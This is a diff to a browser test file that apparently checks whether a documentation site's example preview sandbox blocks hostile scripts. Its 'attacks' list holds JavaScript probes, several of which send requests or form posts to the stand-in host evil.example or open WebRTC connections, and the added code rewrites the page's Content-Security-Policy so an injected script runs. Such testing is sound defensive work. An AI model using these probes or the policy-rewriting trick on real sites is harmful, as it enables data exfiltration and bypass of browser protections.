@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto'
 import { expect, test } from './reader'
 
 const example = '/query/latest/docs/framework/react/examples/basic'
@@ -19,6 +20,8 @@ const attacks = {
   'ask by events':
     "await new Promise((ok, no) => Object.assign(new EventSource('https://evil.example/'), { onopen: ok, onerror: no }))",
   'ask another browser': 'new RTCPeerConnection()',
+  'run a script in a frame':
+    "const f = Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, \"*\")<\\/script>' }); const sent = new Promise((ok) => addEventListener('message', ok)); document.body.append(f); await sent",
   'send a form':
     "const f = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post', target: '_top' }); document.body.append(f); f.submit(); throw 0",
   'prefetch a page':
@@ -84,7 +87,16 @@ test.describe('a hostile example', () => {
     await page.route(`**${frameAddress}`, async (route) => {
       const response = await route.fetch()
       const [head] = (await response.text()).split('<body>')
-      await route.fulfill({ response, body: `${head}<body><script>${script}</script></body></html>` })
+      const policy = response.headers()['content-security-policy'] ?? ''
+      const hash = createHash('sha256').update(script).digest('base64')
+      await route.fulfill({
+        response,
+        headers: {
+          ...response.headers(),
+          'content-security-policy': policy.replace('script-src', `$& 'sha256-${hash}'`),
+        },
+        body: `${head}<body><script>${script}</script></body></html>`,
+      })
     })
     await page.goto(`${example}?panel=preview`)
     const frame = page.frameLocator('iframe[title="Preview"]')
